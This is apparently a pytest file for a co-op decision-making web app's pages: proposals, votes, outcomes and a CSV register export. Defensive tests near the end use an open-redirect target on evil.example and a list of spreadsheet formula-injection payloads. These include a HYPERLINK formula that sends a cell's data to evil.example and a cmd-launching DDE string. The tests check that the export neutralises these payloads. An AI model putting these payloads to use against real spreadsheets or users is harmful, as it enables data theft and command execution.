"""The decisions pages: every page renders, forms refuse bad input with a message, htmx swaps the votes."""
import csv
import html
import io
import re
from datetime import datetime, timedelta, timezone

import pytest
from sqlalchemy import select

from app.decisions.models import Action, Outcome, Proposal
from app.core.extensions import db
from tests.decisions.helpers import (HX, REASON, counting_queries, my_reason, section, text, tomorrow,
                                      without_my_form, yesterday)


def page(response) -> str:
    return html.unescape(response.get_data(as_text=True))


def votes_block(response) -> str:
    return section(page(response), "votes")


# ---------------------------------------------------------------- every page renders


def test_every_decisions_page_renders(scene):
    pid = scene.propose("member", title="Buy a cargo bike")
    scene.vote(pid, "admin", "object", REASON)
    scene.amend(pid, "member", body="Buy a used cargo bike.")
    closed = scene.decided(title="Paint the door", actions=[("Buy paint", "member", tomorrow())])
    poll = scene.propose("facilitator", kind="poll", options=("Tea", "Coffee"))
    scene.close(scene.propose("facilitator", title="Closed"))
    scene.propose("member", title="My draft", draft=True)
    client = scene.client("member")
    pages = {
        "/g/coop/decisions": ["Buy a cargo bike", "Paint the door", "My draft"],
        "/g/coop/decisions/new": ["Propose something"],
        f"/g/coop/decisions/new?thread={scene.thread_id(pid)}": ["Buy a cargo bike"],
        f"/p/{pid}": ["Buy a used cargo bike.", "version 2"],
        f"/p/{pid}/amend": ["Amend the proposal"],
        f"/p/{pid}/history": ["Buy a cargo bike"],
        f"/p/{closed}": ["We bought it.", "Buy paint"],
        f"/p/{poll}": ["Tea", "Coffee"],
        "/g/coop/register": ["Paint the door"],
        "/needs-me": ["Buy paint"],
        f"/t/{scene.thread_id(pid)}": ["Buy a cargo bike"],
        "/g/coop": ["Buy paint"],
    }
    for path, words in pages.items():
        response = client.get(path)
        assert response.status_code == 200, path
        for word in words:
            assert word in page(response), (path, word)
    facilitator = scene.client("facilitator")
    closed_without_outcome = scene.propose("facilitator", title="Awaiting its outcome")
    scene.close(closed_without_outcome)
    response = facilitator.get(f"/p/{closed_without_outcome}/outcome")
    assert response.status_code == 200 and "Record the outcome" in page(response)


@pytest.mark.parametrize("path", ["/p/999999", "/p/999999/history", "/p/999999/amend", "/p/999999/outcome"])
def test_an_unknown_proposal_is_not_found(scene, path):
    assert scene.client("admin").get(path).status_code == 404


@pytest.mark.parametrize("path", ["/p/999999/vote", "/p/999999/close", "/p/999999/reopen", "/p/999999/withdraw",
                                  "/p/999999/objection", "/p/999999/open", "/actions/999999/done"])
def test_posting_to_an_unknown_proposal_or_action_is_not_found(scene, path):
    assert scene.client("admin").post(path, data={"choice": "consent", "days": "3"}).status_code == 404


def test_an_unknown_group_has_no_decisions(scene):
    client = scene.client("admin")
    for path in ("/g/nope/decisions", "/g/nope/decisions/new", "/g/nope/register", "/g/nope/register.csv"):
        assert client.get(path).status_code == 404, path


# ---------------------------------------------------------------- proposing through the form


def test_the_three_field_form_makes_a_consent_proposal_closing_in_three_days(scene):
    response = scene.client("member").post("/g/coop/decisions/new", data={"title": "Paint the door", "body": "Blue."})
    assert response.status_code == 302
    with scene.ctx():
        p = db.session.scalar(select(Proposal))
        assert response.headers["Location"] == f"/p/{p.id}"
        assert (p.title, p.kind, p.status) == ("Paint the door", "consent", "open")
        assert abs(p.closes_at - (datetime.now(timezone.utc) + timedelta(days=3))) < timedelta(minutes=1)


def test_a_proposal_made_from_a_thread_lives_in_it(scene):
    pid = scene.propose("member")
    thread_id = scene.thread_id(pid)
    response = scene.client("admin").post("/g/coop/decisions/new", data={
        "title": "And a trailer", "body": "For big loads.", "thread": str(thread_id), "kind": "consensus",
        "quorum_percent": "50"})
    assert response.status_code == 302
    with scene.ctx():
        second = db.session.scalar(select(Proposal).where(Proposal.title == "And a trailer"))
        assert (second.thread_id, second.kind, second.quorum_percent) == (thread_id, "consensus", 50)


def test_a_poll_is_proposed_with_one_option_per_line(scene):
    response = scene.client("member").post("/g/coop/decisions/new", data={
        "title": "Lunch", "body": "What shall we eat?", "kind": "poll", "options": "Bibimbap\r\nKimbap\r\n\r\nTteokbokki",
        "multiple_choice": "y"})
    assert response.status_code == 302
    with scene.ctx():
        p = db.session.scalar(select(Proposal))
        assert [o.label for o in p.options] == ["Bibimbap", "Kimbap", "Tteokbokki"]
        assert p.multiple_choice is True


@pytest.mark.parametrize("data, message", [
    ({"days": "0"}, "Choose between 1 and 90 days."),
    ({"days": "91"}, "Choose between 1 and 90 days."),
    ({"days": "soon"}, "Not a valid integer value."),
    ({"days": ""}, "Choose between 1 and 90 days."),
    ({"quorum_percent": "101"}, "Quorum is between 0 and 100 percent."),
    ({"quorum_percent": "-5"}, "Quorum is between 0 and 100 percent."),
    ({"title": ""}, "Give it a title."),
    ({"title": "   "}, "Give it a title."),
    ({"body": ""}, "Write something first."),
    ({"title": "x" * 201}, "A title is at most 200 characters."),
    ({"closes_at": "2020-01-01T10:00"}, "The closing time must be in the future."),
    ({"kind": "poll", "options": "Only one"}, "A poll needs 2 to 20 options."),
    ({"kind": "poll", "options": "Same\nSame"}, "Each option must be different."),
    ({"kind": "poll", "options": "\n".join(f"Option {i}" for i in range(21))}, "A poll needs 2 to 20 options."),
    ({"kind": "lottery"}, "Not a valid choice."),
])
def test_bad_proposals_are_shown_again_with_a_message_and_change_nothing(scene, data, message):
    before = scene.counts()
    form = {"title": "Paint the door", "body": "Blue.", "days": "3"} | data
    response = scene.client("member").post("/g/coop/decisions/new", data=form)
    assert response.status_code == 422
    assert message in page(response)
    assert "Propose something" in page(response)
    assert scene.counts() == before


def test_a_proposal_in_another_groups_thread_is_not_found(scene, make_cast):
    from tests.decisions.helpers import DecisionScene

    other = DecisionScene(scene.app, make_cast("other", "public"))
    thread_id = other.thread_id(other.propose("member"))
    client = scene.client("member")
    assert client.get(f"/g/coop/decisions/new?thread={thread_id}").status_code == 404
    assert client.post("/g/coop/decisions/new", data={"title": "T", "body": "B", "thread": str(thread_id)}).status_code == 404


# ---------------------------------------------------------------- voting, with and without htmx


def test_a_vote_without_htmx_redirects_to_the_votes(scene):
    pid = scene.propose("facilitator")
    response = scene.client("member").post(f"/p/{pid}/vote", data={"choice": "consent"})
    assert response.status_code == 302
    assert response.headers["Location"] == f"/p/{pid}#votes"
    assert [v[1] for v in scene.votes(pid)] == ["consent"]


def test_an_htmx_vote_returns_only_the_votes_block_with_the_new_tally(scene):
    pid = scene.propose("facilitator")
    scene.vote(pid, "admin", "consent")
    response = scene.client("member").post(f"/p/{pid}/vote", data={"choice": "concern", "reason": "Stairs."},
                                           headers=HX)
    body = page(response)
    assert response.status_code == 200
    assert "<html" not in body and "<nav" not in body
    assert body.strip().startswith('<section id="votes"') and body.strip().endswith("</section>")
    assert "So far: 2 of 3 members took part." in body
    tally = dict(re.findall(r'choice-badge choice-(\w+)".*?<strong class="tally-count">(\d+)</strong>', section(body, "votes"), re.S))
    assert tally == {"consent": "1", "concern": "1", "object": "0"}
    assert "You answered:" in body and "Change my vote" in body
    assert "HX-Request" in response.headers.get("Vary", "")


def test_a_bad_htmx_vote_is_422_with_the_message_inside_the_block(scene):
    pid = scene.propose("facilitator")
    response = scene.client("member").post(f"/p/{pid}/vote", data={"choice": "object", "reason": ""}, headers=HX)
    body = page(response)
    assert response.status_code == 422
    assert "<html" not in body
    assert "Please give your reason: the group needs to understand it." in section(body, "votes")
    assert scene.votes(pid) == []


def test_a_bad_vote_without_htmx_shows_the_whole_page_with_the_message(scene):
    pid = scene.propose("facilitator")
    response = scene.client("member").post(f"/p/{pid}/vote", data={"choice": "object", "reason": "  "})
    assert response.status_code == 422
    assert "<html" in page(response)
    assert "Please give your reason" in votes_block(response)


@pytest.mark.parametrize("status", ["closed", "withdrawn"])
@pytest.mark.parametrize("headers", [HX, {}], ids=["htmx", "page"])
def test_a_vote_on_a_proposal_that_is_not_open_is_refused_with_a_message(scene, status, headers):
    pid = scene.propose("member")
    if status == "closed":
        scene.close(pid)
    else:
        scene.withdraw(pid, "member")
    before = scene.counts()
    response = scene.client("member").post(f"/p/{pid}/vote", data={"choice": "consent"}, headers=headers)
    assert response.status_code == 422
    assert "This proposal isn't open for votes." in votes_block(response)
    assert scene.counts() == before


def test_a_vote_on_a_draft_is_refused_for_its_author_and_not_found_for_others(scene):
    pid = scene.propose("member", draft=True)
    assert scene.client("member").post(f"/p/{pid}/vote", data={"choice": "consent"}).status_code == 422
    assert scene.client("admin").post(f"/p/{pid}/vote", data={"choice": "consent"}).status_code == 404
    assert scene.votes(pid) == []


def test_a_vote_after_the_closing_time_is_refused_and_shows_the_result(scene):
    pid = scene.propose("facilitator")
    scene.expire(pid)
    response = scene.client("member").post(f"/p/{pid}/vote", data={"choice": "consent"}, headers=HX)
    assert response.status_code == 422
    assert "Adopted:" in votes_block(response)
    assert scene.votes(pid) == []


@pytest.mark.parametrize("data, message", [
    ({"choice": "agree"}, "Choose one of the answers offered."),
    ({"choice": ""}, "Choose one of the answers offered."),
    ({}, "Choose one of the answers offered."),
    ({"choice": "object"}, "Please give your reason"),
    ({"choice": "consent", "reason": "x" * 50_001}, "Field cannot be longer than 50000 characters."),
])
def test_bad_votes_are_refused_with_a_message_and_change_nothing(scene, data, message):
    pid = scene.propose("facilitator")
    before = scene.counts()
    response = scene.client("member").post(f"/p/{pid}/vote", data=data, headers=HX)
    assert response.status_code == 422
    assert message in page(response)
    assert scene.counts() == before


@pytest.mark.parametrize("picks, message", [
    ("none", "Choose one of the options offered."),
    ("unknown", "Choose one of the options offered."),
    ("other proposal", "Choose one of the options offered."),
    ("two", "Choose exactly one option."),
    ("words", "Invalid choice(s)"),
])
def test_bad_poll_votes_are_refused_with_a_message_and_change_nothing(scene, picks, message):
    pid = scene.propose("facilitator", kind="poll", options=("Tea", "Coffee"))
    other = scene.propose("facilitator", kind="poll", options=("Red", "Blue"))
    tea, coffee = scene.option_ids(pid)
    option_ids = {"none": [], "unknown": ["999999"], "other proposal": [str(scene.option_ids(other)[0])],
                  "two": [str(tea), str(coffee)], "words": ["tea"]}[picks]
    before = scene.counts()
    response = scene.client("member").post(f"/p/{pid}/vote", data={"choice": "option", "option_ids": option_ids},
                                           headers=HX)
    assert response.status_code == 422
    assert message in page(response)
    assert scene.counts() == before


def test_a_poll_vote_through_the_page_counts(scene):
    pid = scene.propose("facilitator", kind="poll", options=("Tea", "Coffee", "Water"), multiple_choice=True)
    tea, coffee, water = scene.option_ids(pid)
    response = scene.client("member").post(f"/p/{pid}/vote", data={"choice": "option",
                                                                   "option_ids": [str(tea), str(water)]}, headers=HX)
    assert response.status_code == 200
    assert scene.votes(pid)[0][2] == [tea, water]
    assert "So far: 1 of 3 members took part. If it closed now: Chosen: Tea, Water." in text(page(response))


# ---------------------------------------------------------------- closing on read


def test_the_proposal_page_closes_a_due_proposal_when_read(scene):
    pid = scene.propose("facilitator", quorum_percent=50)
    scene.vote(pid, "member", "consent")
    scene.vote(pid, "admin", "concern", "Where does it live?")
    scene.expire(pid)
    response = scene.client("member").get(f"/p/{pid}")
    assert response.status_code == 200
    assert scene.get(Proposal, pid, "status") == "closed"
    assert ("Adopted: no unresolved objections. 2 of 3 members took part; the quorum was 50%."
            in text(votes_block(response)))
    assert "Vote" not in re.findall(r"<button[^>]*>([^<]*)</button>", votes_block(response))


def test_the_proposal_page_closes_when_the_clock_passes_its_time(scene, clock):
    pid = scene.propose("facilitator", days=1)
    scene.vote(pid, "admin", "object", REASON)
    client = scene.client("member")
    assert "Votes" in votes_block(client.get(f"/p/{pid}"))
    clock.advance(days=1, minutes=1)
    block = text(votes_block(client.get(f"/p/{pid}")))
    assert "Not adopted: 1 unresolved objection. 1 of 3 members took part." in block
    assert scene.events("proposal.closed") == [("proposal.closed", None)]


def test_the_decisions_list_closes_due_proposals_when_read(scene):
    pid = scene.propose("facilitator", title="Due now")
    scene.expire(pid)
    body = page(scene.client("member").get("/g/coop/decisions"))
    assert "Recently closed" in body
    assert scene.get(Proposal, pid, "status") == "closed"


def test_the_consensus_result_is_explained_in_words(scene):
    pid = scene.propose("facilitator", kind="consensus")
    scene.vote(pid, "member", "agree")
    scene.vote(pid, "admin", "disagree", REASON)
    scene.close(pid)
    assert ("Not adopted: 1 agree is not more than 1 disagree. 2 of 3 members took part."
            in text(votes_block(scene.client("member").get(f"/p/{pid}"))))


def test_no_quorum_is_explained_in_words(scene):
    pid = scene.propose("facilitator", quorum_percent=100)
    scene.vote(pid, "member", "consent")
    scene.close(pid)
    assert ("No quorum: too few members took part. 1 of 3 members took part; the quorum was 100%."
            in text(votes_block(scene.client("member").get(f"/p/{pid}"))))


# ---------------------------------------------------------------- what the votes section shows


def test_the_page_shows_who_answered_what_and_who_has_not_voted(scene):
    pid = scene.propose("facilitator")
    scene.vote(pid, "admin", "object", REASON)
    block = votes_block(scene.client("member").get(f"/p/{pid}"))
    assert "Who answered what" in block
    assert re.search(r"<strong>Coopadmin</strong>.*?choice-object", block, re.S)
    assert "Not voted yet: Coopfac, Coopmember." in text(block) or "Not voted yet: Coopmember, Coopfac." in text(block)
    objections = section(block.replace('class="plain rows objections"', 'id="objections" class="x"'), "objections")
    assert "Coopadmin" in objections and "open" in objections and REASON in objections


def test_hidden_results_show_participation_but_no_tally_or_choices_until_close(scene):
    pid = scene.propose("facilitator", hide_results=True)
    scene.vote(pid, "admin", "object", REASON)
    scene.vote(pid, "member", "consent")
    for who in ("facilitator", "admin"):
        block = votes_block(scene.client(who).get(f"/p/{pid}"))
        assert "Results are hidden until the proposal closes. 2 of 3 members have taken part." in text(block)
        assert 'class="plain tally"' not in block
        assert "Who answered what" not in block
        assert my_reason(block) == (REASON if who == "admin" else "")  # their own, in their own form
        block = without_my_form(block)
        assert "Objections" not in block and REASON not in block
        assert "Took part: Coopadmin, Coopmember." in text(block)
    # The htmx answer to a vote keeps them hidden too.
    fragment = page(scene.client("facilitator").post(f"/p/{pid}/vote", data={"choice": "concern", "reason": "Hm."},
                                                     headers=HX))
    assert 'class="plain tally"' not in fragment and "Who answered what" not in fragment
    assert "objections" not in fragment and REASON not in fragment
    scene.close(pid)
    block = votes_block(scene.client("member").get(f"/p/{pid}"))
    assert 'class="plain tally"' in block and "Who answered what" in block and REASON in block


def test_after_an_amendment_votes_are_marked_with_their_version(scene):
    pid = scene.propose("member")
    scene.vote(pid, "admin", "object", REASON)
    response = scene.client("member").post(f"/p/{pid}/amend", data={"title": "Buy a shared cargo bike",
                                                                      "body": "A used one."})
    assert response.status_code == 302
    assert scene.get(Proposal, pid, "version") == 2
    block = votes_block(scene.client("admin").get(f"/p/{pid}"))
    assert "on version 1" in block
    assert "You answered:" in block
    assert scene.notifications("admin", "amended") == [("amended", "proposal", pid)]


def test_an_amendment_with_an_empty_title_is_shown_again(scene):
    pid = scene.propose("member")
    response = scene.client("member").post(f"/p/{pid}/amend", data={"title": "", "body": "A used one."})
    assert response.status_code == 422 and "Give it a title." in page(response)
    assert scene.get(Proposal, pid, "version") == 1


def test_the_objector_marks_their_objection_resolved_from_the_page(scene):
    pid = scene.propose("member")
    scene.vote(pid, "admin", "object", REASON)
    client = scene.client("admin")
    assert "My objection is resolved" in votes_block(client.get(f"/p/{pid}"))
    response = client.post(f"/p/{pid}/objection", data={"state": "resolved"})
    assert response.status_code == 302 and response.headers["Location"] == f"/p/{pid}#votes"
    block = votes_block(client.get(f"/p/{pid}"))
    assert "Your objection is resolved." in text(block)
    assert "✓ resolved" in text(block)
    assert scene.votes(pid)[0][5] == "resolved"


def test_settling_an_objection_someone_else_made_says_why_not(scene):
    pid = scene.propose("member")
    scene.vote(pid, "admin", "object", REASON)
    client = scene.client("facilitator")
    response = client.post(f"/p/{pid}/objection", data={"state": "resolved"}, follow_redirects=True)
    assert "You have no open objection here." in page(response)
    assert scene.votes(pid)[0][5] == "open"


# ---------------------------------------------------------------- lifecycle through the page


def test_a_draft_is_opened_from_its_page(scene):
    pid = scene.propose("member", draft=True)
    response = scene.client("member").post(f"/p/{pid}/open", data={"days": "5"})
    assert response.status_code == 302
    status, closes_at = scene.get(Proposal, pid, "status", "closes_at")
    assert status == "open" and closes_at > datetime.now(timezone.utc) + timedelta(days=4)


@pytest.mark.parametrize("days", ["0", "91", "x"])
def test_opening_or_reopening_with_bad_days_is_refused(scene, days):
    draft = scene.propose("member", draft=True)
    closed = scene.propose("member")
    scene.close(closed)
    scene.client("member").post(f"/p/{draft}/open", data={"days": days})
    scene.client("facilitator").post(f"/p/{closed}/reopen", data={"days": days})
    assert scene.get(Proposal, draft, "status") == "draft"
    assert scene.get(Proposal, closed, "status") == "closed"


def test_a_facilitator_closes_and_reopens_from_the_page(scene):
    pid = scene.propose("member")
    client = scene.client("facilitator")
    assert client.post(f"/p/{pid}/close").status_code == 302
    assert scene.get(Proposal, pid, "status") == "closed"
    assert client.post(f"/p/{pid}/reopen", data={"days": "2"}).status_code == 302
    assert scene.get(Proposal, pid, "status") == "open"


def test_an_anonymous_proposal_offers_no_reopening(scene):
    pid = scene.propose("member", anonymous=True)
    scene.close(pid)
    client = scene.client("facilitator")
    assert f"/p/{pid}/reopen" not in page(client.get(f"/p/{pid}"))
    response = client.post(f"/p/{pid}/reopen", data={"days": "3"}, follow_redirects=True)
    assert "Anonymous proposals can't be reopened" in page(response)
    assert scene.get(Proposal, pid, "status") == "closed"


# ---------------------------------------------------------------- outcomes


def _closed(scene, **options):
    pid = scene.propose("member", **options)
    scene.vote(pid, "member", "consent")
    scene.close(pid)
    return pid


def test_a_facilitator_records_the_outcome_with_actions(scene):
    pid = _closed(scene)
    client = scene.client("facilitator")
    form = page(client.get(f"/p/{pid}/outcome"))
    assert re.search(r'<option selected value="adopted">|<option value="adopted" selected>', form)
    response = client.post(f"/p/{pid}/outcome", data={
        "statement": "We buy the bike in May.", "result": "adopted", "review_on": tomorrow().isoformat(),
        "actions-0-description": "Ask three shops", "actions-0-owner_id": str(scene.uid("member")),
        "actions-0-due_on": tomorrow().isoformat(),
        "actions-1-description": "", "actions-1-owner_id": str(scene.uid("admin")),
    })
    assert response.status_code == 302 and response.headers["Location"] == f"/p/{pid}#outcome"
    with scene.ctx():
        outcome = db.session.scalar(select(Outcome))
        assert (outcome.result, outcome.review_on, [a.description for a in outcome.actions]) == (
            "adopted", tomorrow(), ["Ask three shops"])
    shown = page(scene.client("member").get(f"/p/{pid}"))
    assert "We buy the bike in May." in shown and "Ask three shops" in shown and "Mark done" in shown


@pytest.mark.parametrize("data, message", [
    ({"result": "chosen"}, "Choose a result."),
    ({"result": ""}, "Choose a result."),
    ({"statement": ""}, "Write something first."),
    ({"review_on": "yesterday"}, "A review date must be in the future."),
    ({"review_on": "today"}, "A review date must be in the future."),
    ({"review_on": "not a date"}, "Not a valid date value."),
    ({"actions-0-description": "Buy a lock", "actions-0-owner_id": "outsider"},
     "An action's owner must be a member of the group."),
    ({"actions-0-description": "Buy a lock", "actions-0-owner_id": "abc"}, "Invalid Choice: could not coerce."),
])
def test_a_bad_outcome_is_shown_again_with_a_message_and_records_nothing(scene, data, message):
    pid = _closed(scene)
    dates = {"yesterday": yesterday().isoformat(), "today": datetime.now(timezone.utc).date().isoformat()}
    data = {k: dates.get(v, str(scene.uid("outsider")) if v == "outsider" else v) for k, v in data.items()}
    before = scene.counts()
    response = scene.client("facilitator").post(f"/p/{pid}/outcome", data={
        "statement": "We buy it.", "result": "adopted"} | data)
    assert response.status_code == 422
    assert message in page(response)
    assert scene.counts() == before


def test_an_outcome_for_an_open_proposal_is_refused(scene):
    pid = scene.propose("member")
    response = scene.client("facilitator").post(f"/p/{pid}/outcome", data={"statement": "Yes.", "result": "adopted"})
    assert response.status_code == 422
    assert "Record the outcome once the proposal has closed." in page(response)
    assert scene.count(Outcome) == 0


def test_an_action_is_marked_done_and_back_from_the_page(scene):
    pid = scene.decided(actions=[("Buy a lock", "member", None)])
    with scene.ctx():
        action_id = db.session.scalar(select(Action.id))
    client = scene.client("member")
    response = client.post(f"/actions/{action_id}/done", data={"done": "1"})
    assert response.status_code == 302 and response.headers["Location"] == f"/p/{pid}#outcome"
    assert scene.get(Action, action_id, "done_at") is not None
    assert client.post(f"/actions/{action_id}/done", data={"done": "0", "next": "/needs-me"}).headers[
        "Location"] == "/needs-me"
    assert scene.get(Action, action_id, "done_at") is None
    # Only our own pages are places to go back to.
    for elsewhere in ("//evil.example/", "https://evil.example/"):
        location = client.post(f"/actions/{action_id}/done", data={"done": "1", "next": elsewhere}).headers["Location"]
        assert location == f"/p/{pid}#outcome"


# ---------------------------------------------------------------- the register


def _review_due(scene, pid):
    with scene.ctx():
        oid = db.session.scalar(select(Outcome.id).where(Outcome.proposal_id == pid))
    scene.set(Outcome, oid, review_on=datetime.now(timezone.utc).date() - timedelta(days=2))


def test_the_register_flags_reviews_that_are_due_and_nothing_else(scene):
    due = scene.decided(title="Review me", review_on=tomorrow())
    scene.decided(title="Later", review_on=tomorrow() + timedelta(days=60))
    scene.decided(title="Never")
    _review_due(scene, due)
    rows = re.findall(r"<tr>(.*?)</tr>", page(scene.client("member").get("/g/coop/register")), re.S)[1:]
    flagged = [text(row) for row in rows if "⚑" in row]
    assert len(rows) == 3
    assert len(flagged) == 1 and "Review me" in flagged[0]


def test_the_register_csv_has_a_header_and_one_row_per_outcome(scene):
    scene.decided(title="Paint the door", statement="Blue, with a \"quote\", and a\nsecond line.", review_on=tomorrow(),
                  actions=[("Buy paint", "member", None), ("Find brushes", None, None)])
    scene.decided(title="문 칠하기", result="not_adopted")
    scene.close(scene.propose("member", title="Closed without outcome"))
    scene.propose("member", title="Still open")
    response = scene.client("member").get("/g/coop/register.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "coop-decision-register.csv" in response.headers["Content-Disposition"]
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows[0] == ["decided_on", "group", "proposal", "kind", "result", "statement", "review_on", "open_actions",
                       "url"]
    assert len(rows) == 3
    by_title = {row[2]: row for row in rows[1:]}
    assert set(by_title) == {"Paint the door", "문 칠하기"}
    door = by_title["Paint the door"]
    assert door[4:8] == ["adopted", "Blue, with a \"quote\", and a\nsecond line.", tomorrow().isoformat(), "2"]
    assert door[1] == "Coop Co-op" and door[3] == "consent"
    assert by_title["문 칠하기"][4] == "not_adopted"


def test_the_register_csv_follows_the_filters(scene):
    scene.decided(title="Yes", result="adopted")
    scene.decided(title="No", result="not_adopted")
    rows = list(csv.reader(io.StringIO(
        scene.client("member").get("/g/coop/register.csv?result=not_adopted").get_data(as_text=True).lstrip("\ufeff"))))
    assert [row[2] for row in rows[1:]] == ["No"]


def test_the_register_page_filters_by_result_year_and_tag(scene):
    from app.archive import threads as archive

    with scene.ctx():
        tagged = archive.start_thread(scene.user("member"), scene.group(), "Garden", "Beds", ["garden"]).id
    pid = scene.propose("member", title="Raised beds", thread=tagged)
    scene.close(pid)
    scene.outcome(pid, result="not_adopted")
    scene.decided(title="Paint the door")
    client = scene.client("member")
    year = datetime.now(timezone.utc).year

    def titles(query):
        response = client.get("/g/coop/register" + query)
        return response.status_code, re.findall(r'<td><a href="/p/\d+">([^<]+)</a>', page(response))

    assert titles("") == (200, ["Paint the door", "Raised beds"])
    assert titles("?result=not_adopted") == (200, ["Raised beds"])
    assert titles("?tag=%23garden") == (200, ["Raised beds"])
    assert titles(f"?year={year}") == (200, ["Paint the door", "Raised beds"])
    assert titles(f"?year={year - 1}") == (200, [])
    status, _ = titles("?year=1999")
    assert status == 422


# ---------------------------------------------------------------- what needs me


def test_needs_me_lists_proposals_to_vote_on_closing_soonest_first_actions_and_reviews(scene):
    scene.propose("facilitator", title="Late", days=9)
    scene.propose("facilitator", title="Soon", days=1)
    voted = scene.propose("facilitator", title="Voted", days=2)
    scene.vote(voted, "member", "consent")
    due = scene.decided(title="Review me", review_on=tomorrow(), actions=[("Buy a lock", "member", None)])
    _review_due(scene, due)
    body = page(scene.client("member").get("/needs-me"))
    titles = re.findall(r'<a href="/p/\d+(?:#outcome)?">([^<]+)</a>', body)
    assert [t for t in titles if t in ("Late", "Soon", "Voted", "Buy a lock", "Review me")] == [
        "Soon", "Late", "Buy a lock", "Review me"]


def test_the_group_home_shows_what_needs_me_there(scene):
    pid = scene.propose("facilitator", title="Vote on me")
    scene.vote(pid, "facilitator", "consent")
    home = page(scene.client("member").get("/g/coop"))
    assert "Vote on me" in section(home, "needs-me", "aria-labelledby")
    author = page(scene.client("facilitator").get("/g/coop"))
    assert "Nothing needs you right now." in section(author, "needs-me", "aria-labelledby")


# ---------------------------------------------------------------- a fixed number of queries


def _queries(app, client, path) -> int:
    client.get(path)  # warm caches (translations, templates)
    with counting_queries(app) as statements:
        assert client.get(path).status_code == 200
    return len(statements)


def test_the_proposal_page_runs_the_same_queries_for_3_and_30_votes(scene):
    handles = scene.crowd(30)
    few, many = scene.propose("facilitator", title="Few"), scene.propose("facilitator", title="Many")
    choices = ["consent", "concern", "object"]
    for i, handle in enumerate(handles):
        choice = choices[i % 3]
        if i < 3:
            scene.vote(few, handle, choice, REASON)
        scene.vote(many, handle, choice, REASON)
    scene.amend(many, "facilitator")
    client = scene.client("member")
    assert _queries(scene.app, client, f"/p/{few}") == _queries(scene.app, client, f"/p/{many}")
    scene.close(few)
    scene.close(many)
    assert _queries(scene.app, client, f"/p/{few}") == _queries(scene.app, client, f"/p/{many}")


def test_the_register_runs_the_same_queries_for_2_and_20_outcomes(scene):
    for i in range(2):
        scene.decided(title=f"Decision {i}", review_on=tomorrow(), actions=[("Act", "member", None)])
    client = scene.client("member")
    small = _queries(scene.app, client, "/g/coop/register")
    for i in range(2, 20):
        scene.decided(title=f"Decision {i}", review_on=tomorrow(), actions=[("Act", "member", None)])
    assert _queries(scene.app, client, "/g/coop/register") == small


def test_needs_me_runs_the_same_queries_for_2_and_20_open_proposals(scene):
    for i in range(2):
        scene.propose("facilitator", title=f"Open {i}")
    scene.decided(actions=[("Act", "member", None)])
    client = scene.client("member")
    small = _queries(scene.app, client, "/needs-me")
    for i in range(2, 20):
        scene.propose("facilitator", title=f"Open {i}")
    scene.decided(actions=[("Act", "member", None)])
    assert _queries(scene.app, client, "/needs-me") == small


# ---------------------------------------------------------------- inputs that used to end in a 500


@pytest.mark.parametrize("thread", ["99999999999999999999", str(2**31), "-1"])
def test_a_thread_id_no_row_can_have_is_not_found_on_the_new_proposal_page(scene, thread):
    before = scene.counts()
    client = scene.client("member")
    assert client.get(f"/g/coop/decisions/new?thread={thread}").status_code == 404
    data = {"title": "Paint the door", "body": "Blue.", "days": "3", "thread": thread}
    assert client.post("/g/coop/decisions/new", data=data).status_code == 404
    assert client.post(f"/g/coop/decisions/new?thread={thread}", data=data).status_code == 404
    assert scene.counts() == before


EDGE_TIMES = [("0001-01-01T00:00", "The closing time must be in the future."),
              ("9999-12-31T23:59", "A proposal stays open at most 90 days.")]
# Seoul is ahead of UTC (year 1 has no room), New York behind it (year 9999 has none).
ZONES = ["Asia/Seoul", "America/New_York", "UTC"]


def _in_zone(scene, who, zone):
    from app.accounts.models import User

    scene.set(User, scene.uid(who), timezone=zone)


@pytest.mark.parametrize("zone", ZONES)
@pytest.mark.parametrize("closes_at, message", EDGE_TIMES)
def test_a_closing_time_at_the_edge_of_the_calendar_is_refused_with_a_message(scene, zone, closes_at, message):
    _in_zone(scene, "member", zone)
    before = scene.counts()
    response = scene.client("member").post("/g/coop/decisions/new", data={
        "title": "Paint the door", "body": "Blue.", "closes_at": closes_at})
    assert response.status_code == 422
    assert message in page(response)
    assert scene.counts() == before


@pytest.mark.parametrize("zone", ZONES)
@pytest.mark.parametrize("closes_at, message", EDGE_TIMES)
def test_opening_or_reopening_at_the_edge_of_the_calendar_is_refused_with_a_message(scene, zone, closes_at, message):
    draft = scene.propose("facilitator", draft=True)
    closed = scene.propose("member")
    scene.close(closed)
    _in_zone(scene, "facilitator", zone)
    client = scene.client("facilitator")
    for path in (f"/p/{draft}/open", f"/p/{closed}/reopen"):
        response = client.post(path, data={"closes_at": closes_at}, follow_redirects=True)
        assert response.status_code == 200
        assert message in page(response)
    assert scene.get(Proposal, draft, "status") == "draft"
    assert scene.get(Proposal, closed, "status") == "closed"


def test_opening_with_a_time_that_is_not_a_time_says_so(scene):
    draft = scene.propose("member", draft=True)
    response = scene.client("member").post(f"/p/{draft}/open", data={"closes_at": "soon"}, follow_redirects=True)
    assert "Not a valid datetime value." in page(response)
    assert scene.get(Proposal, draft, "status") == "draft"


# ---------------------------------------------------------------- spreadsheet formulas


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1, "Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1",
            "\t=1+1", "\r=1+1", "＝1+1"]


def test_the_register_csv_writes_no_cell_a_spreadsheet_would_run_as_a_formula(scene):
    for i, formula in enumerate(FORMULAS):
        pid = scene.propose("member", title=formula)
        scene.close(pid)
        scene.outcome(pid, statement=FORMULAS[-1 - i])
    body = scene.client("member").get("/g/coop/register.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == 1 + len(FORMULAS)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "＝")]
    # What was typed (less the blanks around it, which titles and statements lose) is still there,
    # behind the quote that makes it text: as a title and as a statement.
    for row in rows[1:]:
        assert row[2].startswith("'") and row[5].startswith("'")
    assert {"'" + f.strip() for f in FORMULAS} == {row[2] for row in rows[1:]} == {row[5] for row in rows[1:]}
    assert {row[7] for row in rows[1:]} == {"0"}  # numbers stay numbers
